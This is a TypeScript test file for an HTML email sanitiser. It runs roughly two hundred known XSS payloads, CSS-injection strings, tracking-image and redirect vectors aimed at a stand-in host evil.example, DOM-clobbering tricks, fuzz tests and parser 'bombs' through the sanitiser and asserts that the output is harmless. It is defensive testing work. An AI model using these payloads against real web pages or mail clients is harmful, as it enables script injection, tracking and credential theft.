import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { parseDocument } from 'htmlparser2'
import { type SanitisedHtml, sanitiseHtml } from '../../gateways/web/sanitise-html.ts'

const safe = (html: string, remoteImages = false): SanitisedHtml =>
  sanitiseHtml(html, { remoteImages, partUrl: (id) => (id === 'logo@x' ? '/part/TOKEN' : undefined) })

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://x/1',
  'about:blank',
  '//evil.example/x',
  '/graphql',
  '?q',
  '#top',
  'x',
  'feed:javascript:1',
  'view-source:x',
  'ws://x',
  'intent://x',
  'ms-word:ofe|u|http://x',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'jav&#x09;ascript:alert(1)',
  'javas\0cript:alert(1)',
]
const HANDLERS = [
  'onclick',
  'onload',
  'onerror',
  'onmouseover',
  'onfocus',
  'ONCLICK',
  'onToggle',
  'onbegin',
  'onanimationstart',
  'onpointerrawupdate',
  'onbeforetoggle',
  'onsecuritypolicyviolation',
]
const ELEMENTS = [
  'script',
  'style',
  'iframe',
  'object',
  'embed',
  'applet',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'option',
  'svg',
  'math',
  'link',
  'meta',
  'base',
  'frame',
  'frameset',
  'video',
  'audio',
  'source',
  'track',
  'canvas',
  'template',
  'slot',
  'portal',
  'dialog',
  'marquee',
  'bgsound',
  'layer',
  'ilayer',
  'xml',
  'xss',
  'image',
  'isindex',
  'keygen',
  'noscript',
  'noembed',
  'plaintext',
  'title',
  'head',
  'body',
  'html',
  'foreignobject',
  'animate',
  'set',
  'use',
  'param',
  'area',
  'map',
  'picture',
  'custom-element',
  'o:p',
  'v:shape',
  'fencedframe',
]
const STYLES = [
  'position:fixed;top:0',
  'position:absolute',
  'background:url(javascript:alert(1))',
  'background-image:url("http://evil.example/p.png")',
  'width:expression(alert(1))',
  'behavior:url(x.htc)',
  '-moz-binding:url(x#y)',
  'b\\61ckground:url(http://evil.example)',
  'color:\\75rl(http://evil.example)',
  'background:u/**/rl(http://evil.example/x)',
  'list-style-image:url(http://evil.example/a)',
  'content:url(http://evil.example/a)',
  'cursor:url(http://evil.example/a),auto',
  'border-image:url(http://evil.example/a)',
  'mask:url(http://evil.example/a)',
  'filter:url(http://evil.example/a#b)',
  '@import "http://evil.example/a.css"',
  'background:image-set("http://evil.example/a" 1x)',
  'color:red;}body{background:url(http://evil.example)',
  'font-family:x</style><script>alert(1)</script>',
  '--x:url(http://evil.example)',
  'background:var(--x)',
  'z-index:99999',
  'transform:scale(100)',
  'animation:x 1s',
  'display:contents',
  'src:url(http://evil.example)',
  "color:red;background:url('http://evil.example/\"onx=')",
  'background:url(http://evil.example/a) , url(http://evil.example/b)',
  'background:element(#x)',
  'width:attr(data-x)',
]
const STRUCTURES = [
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=//evil.example>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<title><img src="</title><img src=x onerror=alert(1)//">',
  '<textarea><img src="</textarea><img src=x onerror=alert(1)>">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a href="http://ok.example" onclick="alert(1)" style="position:fixed">x</a>',
  '<table background="http://evil.example/x.png"><tr><td background=javascript:alert(1)>x',
  '<body onload=alert(1) background="http://evil.example/x.png">x',
  '<meta http-equiv="refresh" content="0;url=http://evil.example">',
  '<base href="http://evil.example/">',
  '<link rel="stylesheet" href="http://evil.example/x.css">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="http://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<video poster="http://evil.example/p.png" src="http://evil.example/v"><source src="http://evil.example/s" onerror=alert(1)></video>',
  '<img srcset="http://evil.example/1.png 1x, http://evil.example/2.png 2x">',
  '<picture><source srcset="http://evil.example/1.png"><img src="http://evil.example/2.png"></picture>',
  '<img src="http://evil.example/x.png" lowsrc="http://evil.example/y" dynsrc="http://evil.example/z">',
  '<input type=image src="http://evil.example/x.png">',
  '<div id="location" name="cookie" class="x">clobber</div>',
  '<a name="getElementById" id="body">x</a>',
  '<img name=cookie src=cid:logo@x>',
  '<p style="background:url(http://evil.example/x.png)">',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="http://evil.example">x</q>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="http://ok.example" target="_self" rel="opener" ping="http://evil.example">x</a>',
  '<a href="http://ok.example" download="x.exe">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html;base64,PHN2Zy8+">',
  '<img src="cid:unknown@x">',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<div style="x:\'"><script>alert(1)</script>">',
  '<a href=\'http://ok.example/"onmouseover="alert(1)\'>x</a>',
  '<font color="red" onclick=alert(1)//">x</font>',
  '<td width="1" onclick="alert(1)">x</td>',
  '<p dir="ltr\u0000onclick=alert(1)">x</p>',
  '<img alt="<script>alert(1)</script>" src=cid:logo@x>',
  '<p title="&quot; onclick=alert(1) x=&quot;">x</p>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<\u0000script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<template><script>alert(1)</script></template>',
  '<slot onslotchange=alert(1)>',
  '<p contenteditable autofocus onfocus=alert(1)>x</p>',
  '<a tabindex=1 accesskey=x onclick=1>x</a>',
  '<div popover ontoggle=alert(1)>x</div>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style>@import "http://evil.example/x.css"</style></svg>',
  '<svg><image href="http://evil.example/x.png"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
]

const VECTORS = [
  ...SCHEMES.map((url) => `<a href="${url}">x</a>`),
  ...SCHEMES.map((url) => `<img src="${url}">`),
  ...HANDLERS.map((name) => `<p ${name}="alert(1)">x</p>`),
  ...ELEMENTS.map(
    (name) =>
      `<${name} src="http://evil.example/x" href="http://evil.example/x" data="x" onload=alert(1)>in ${name}</${name}>`,
  ),
  ...STYLES.map((style) => `<p style="${style.replaceAll('"', '&quot;')}">x</p>`),
  ...STRUCTURES,
]

const TAGS =
  /^(?:a|abbr|acronym|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|dir|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/

interface Node {
  readonly type: string
  readonly name?: string
  readonly attribs?: Record<string, string>
  readonly children?: readonly Node[]
}

/** What is true of every output, looked at with a parser. */
function assertHarmless(html: string, about: string, remote: boolean): void {
  const visit = (node: Node): void => {
    if (node.name !== undefined) {
      assert.match(node.name, TAGS, about)
      for (const [name, value] of Object.entries(node.attribs ?? {})) {
        assert.doesNotMatch(
          name,
          /^on|^(?:id|class|name|srcset|srcdoc|formaction|action|poster|background|ping|xlink)/i,
          about,
        )
        if (name === 'href') {
          assert.match(value, /^(?:https?:\/\/|mailto:|tel:)/i, about)
          assert.equal(node.attribs?.['target'], '_blank', about)
          assert.equal(node.attribs?.['rel'], 'noreferrer noopener', about)
        }
        if (name === 'src')
          assert.match(
            value,
            remote ? /^(?:https:\/\/|\/part\/|data:image\/(?!svg))/ : /^(?:\/part\/|data:image\/(?!svg))/,
            about,
          )
        if (name === 'style') {
          assert.doesNotMatch(
            value,
            /expression|javascript|behavior|binding|position|@|\\|[<>{}]|var\(|content:|z-index/i,
            about,
          )
          if (!remote) assert.doesNotMatch(value, /url\((?!"(?:\/part\/|data:image))/i, about)
          else assert.doesNotMatch(value, /url\((?!"(?:\/part\/|data:image|https:\/\/))/i, about)
        }
      }
    }
    assert.notEqual(node.type, 'comment', about)
    assert.notEqual(node.type, 'directive', about)
    for (const child of node.children ?? []) visit(child)
  }
  visit(parseDocument(html) as unknown as Node)
}

test(`${VECTORS.length} hostile pieces of HTML come out harmless, with images and without`, () => {
  assert.ok(VECTORS.length >= 200, String(VECTORS.length))
  for (const vector of VECTORS) {
    for (const remote of [false, true]) {
      const { html } = safe(vector, remote)
      assertHarmless(html, `${vector} -> ${html}`, remote)
      // Harmless stays as it is: a second pass finds nothing to take away.
      const again = sanitiseHtml(html.replaceAll('/part/TOKEN', 'cid:logo@x'), {
        remoteImages: remote,
        partUrl: () => '/part/TOKEN',
      }).html
      assert.equal(again, html, vector)
    }
  }
})

test('anything at all comes out harmless', () => {
  const piece = fc.constantFrom(
    ...VECTORS,
    '<',
    '>',
    '"',
    "'",
    '`',
    '</p>',
    '<p ',
    'style="',
    '&#0;',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '\u0000',
    '<table>',
    '</table>',
    '=',
    '/',
  )
  fc.assert(
    fc.property(
      fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 12 }),
      fc.boolean(),
      (pieces, remote) => {
        const html = pieces.join('')
        assertHarmless(safe(html, remote).html, html, remote)
      },
    ),
    { numRuns: 400 },
  )
})

test('mail keeps what makes it readable', () => {
  const { html } = safe(
    '<table width="600" bgcolor="#eee"><tr><td style="padding: 4px; color: #333; font-family: Arial, \'Noto Sans\'" align="center" colspan=2><h1>Hi</h1><a href="https://ok.example/?a=1&amp;b=2">go</a><img src="cid:logo@x" width=20 alt="Logo"></td></tr></table>',
  )
  assert.equal(
    html,
    '<table width="600" bgcolor="#eee"><tr><td style="padding:4px;color:#333;font-family:Arial, \'Noto Sans\'" align="center" colspan="2"><h1>Hi</h1><a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noreferrer noopener">go</a><img width="20" alt="Logo" src="/part/TOKEN" /></td></tr></table>',
  )
})

test('remote images are counted in every place where they hide, loaded only when asked, and only over TLS', () => {
  const html = `<img src="http://a.example/1.png"><img srcset="https://a.example/2.png 2x"><video poster="https://a.example/3.png"></video>
    <td background="//a.example/4.png">x</td><p style="background-image: url('https://a.example/5.png')">x</p>
    <p style="background:#fff url(https://a.example/6.png) no-repeat">x</p><img src="https://a.example/pixel.gif" width="1" height="1">`
  const without = safe(html)
  assert.equal(without.remoteImages, 6)
  assert.doesNotMatch(without.html, /a\.example/)
  const shown = safe(html, true)
  assert.equal(shown.remoteImages, 6)
  assert.match(shown.html, /<img src="https:\/\/a\.example\/1\.png"/)
  assert.match(shown.html, /url\(&quot;https:\/\/a\.example\/5\.png&quot;\)/)
  assert.doesNotMatch(shown.html, /http:\/\/|pixel/)
})

test('bombs cost little', () => {
  const bombs = [
    '<div>'.repeat(100_000),
    '<a'.repeat(200_000),
    '<p style="'.repeat(50_000),
    `<p style="${'a:b;'.repeat(100_000)}">`,
    `<p style="background:${'url('.repeat(20_000)}">`,
    '<table><tr><td>'.repeat(30_000),
    '&'.repeat(500_000),
    `<img src="data:image/png;base64,${'A'.repeat(900_000)}">`,
    '<!--'.repeat(100_000),
    `<a href="${'&#106;'.repeat(100_000)}">`,
  ]
  for (const bomb of bombs) {
    const started = performance.now()
    safe(bomb)
    const took = performance.now() - started
    assert.ok(took < 3000, `${bomb.slice(0, 20)} took ${took} ms`)
  }
})
